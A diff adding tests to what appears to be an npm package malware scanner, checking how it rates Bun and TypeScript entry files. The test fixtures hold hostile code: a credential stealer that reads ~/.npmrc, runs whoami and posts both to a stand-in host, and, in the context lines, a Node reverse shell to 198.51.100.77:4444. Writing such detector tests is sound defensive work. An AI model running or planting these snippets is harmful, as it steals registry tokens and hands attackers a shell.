@@ -436,6 +436,21 @@ module.exports = { Keypair };
   });
 });
 
+describe("Bun's and Deno's own APIs, and TypeScript run as it is", () => {
+  const stealer = `import { $ } from 'bun';\nconst home = Bun.env.HOME;\nconst npmrc = await Bun.file(home + '/.npmrc').text();\nconst who = await $\`whoami\`.text();\nawait fetch('https://npm-stats.example.dev/ingest', { method: 'POST', body: JSON.stringify({ npmrc, who }) });\nexport default {};\n`;
+
+  it('Bun.file of ~/.npmrc and the output of Bun\'s $ posted at load from a TypeScript entry are high', () => {
+    const r = scan({ 'index.ts': stealer }, { main: 'index.ts', module: 'index.ts' });
+    expect(r.ids).toContain('exfiltration/flow');
+    expect(['high', 'critical']).toContain(r.level);
+  });
+
+  it('TypeScript sources shipped beside the JavaScript that runs are not read as code', () => {
+    const r = scan({ 'src/index.ts': stealer, 'dist/index.js': 'export default {};\n' }, { main: 'dist/index.js' });
+    expect(r.ids).not.toContain('exfiltration/flow');
+  });
+});
+
 describe('programs the package starts', () => {
   const shell = `const net = require('net');\nconst { spawn } = require('child_process');\nconst sock = net.connect(4444, '198.51.100.77', () => {\n  const sh = spawn('/bin/sh', []);\n  sock.pipe(sh.stdin);\n  sh.stdout.pipe(sock);\n});\n`;
 
